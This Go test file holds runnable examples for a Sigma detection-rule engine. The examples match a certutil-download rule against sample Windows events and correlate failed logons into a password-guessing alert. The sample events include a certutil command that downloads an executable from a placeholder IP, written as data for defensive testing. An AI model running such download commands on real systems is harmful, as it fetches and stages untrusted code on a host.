package sigma_test

import (
	"fmt"
	"time"

	"github.com/huntflow/huntflow"
	"github.com/huntflow/huntflow/sigma"
)

const exampleRules = `title: Certutil download
id: 0b6d3a5e-8c1f-4b7e-9a61-2f4c9d8e7a10
level: high
tags:
    - attack.command_and_control
    - attack.t1105
logsource:
    category: process_creation
    product: windows
detection:
    selection_img:
        - Image|endswith: '\certutil.exe'
        - OriginalFileName: 'CertUtil.exe'
    selection_cli:
        CommandLine|windash|contains:
            - '-urlcache'
            - '-verifyctl'
    condition: all of selection_*
`

// Rules use Sysmon field names; a Security 4688 event answers to them
// through huntflow.Event.Field, so one rule covers both sources.
func ExampleRuleSet_Match() {
	rules, err := sigma.ParseRule([]byte(exampleRules))
	if err != nil {
		panic(err)
	}
	rs := sigma.NewRuleSet(rules)
	events := []*huntflow.Event{
		{EventID: 1, Channel: sigma.ChannelSysmon, Image: `C:\Windows\System32\certutil.exe`,
			CommandLine: `certutil.exe -urlcache -f http://203.0.113.7/a.exe a.exe`},
		{EventID: 4688, Channel: sigma.ChannelSecurity, Image: `C:\Windows\System32\certutil.exe`,
			CommandLine: `certutil /urlcache /f http://203.0.113.7/a.exe a.exe`,
			Fields:      map[string]string{"NewProcessName": `C:\Windows\System32\certutil.exe`}},
		{EventID: 4688, Channel: sigma.ChannelSecurity, Image: `C:\Windows\System32\certutil.exe`,
			CommandLine: `certutil -hashfile a.exe SHA256`},
	}
	for _, e := range events {
		rs.Match(e, e.Channel, e.EventID, func(r *sigma.Rule) {
			fmt.Println(e.Channel, e.EventID, r.Title, r.Techniques(), r.Tactics())
		})
	}
	// Output:
	// Microsoft-Windows-Sysmon/Operational 1 Certutil download [T1105] [command-and-control]
	// Security 4688 Certutil download [T1105] [command-and-control]
}

func ExampleCorrelator() {
	const doc = `title: Failed logon
name: failed_logon
logsource:
    product: windows
    service: security
detection:
    selection:
        EventID: 4625
    condition: selection
---
title: Password guessing
correlation:
    type: event_count
    rules:
        - failed_logon
    group-by:
        - TargetUserName
    timespan: 5m
    condition:
        gte: 3
level: high
`
	c, err := sigma.ParseCollection([]byte(doc))
	if err != nil {
		panic(err)
	}
	rs, err := sigma.NewRuleSetFrom(c)
	if err != nil {
		panic(err)
	}
	corr := sigma.NewCorrelator(rs)
	start := time.Date(2024, 5, 1, 9, 0, 0, 0, time.UTC)
	for i := range 4 {
		e := &huntflow.Event{EventID: 4625, Channel: "Security", Time: start.Add(time.Duration(i) * time.Minute),
			Fields: map[string]string{"TargetUserName": "alice"}}
		rs.Match(e, e.Channel, e.EventID, func(r *sigma.Rule) {
			corr.Observe(r, e, e.Time, func(h sigma.Hit) {
				fmt.Printf("%s: %s, %.0f events from %s to %s\n", h.Correlation.Title, h.Group["TargetUserName"],
					h.Value, h.Start.Format("15:04"), h.End.Format("15:04"))
			})
		})
	}
	corr.Flush(func(sigma.Hit) {})
	// Output:
	// Password guessing: alice, 3 events from 09:00 to 09:02
}
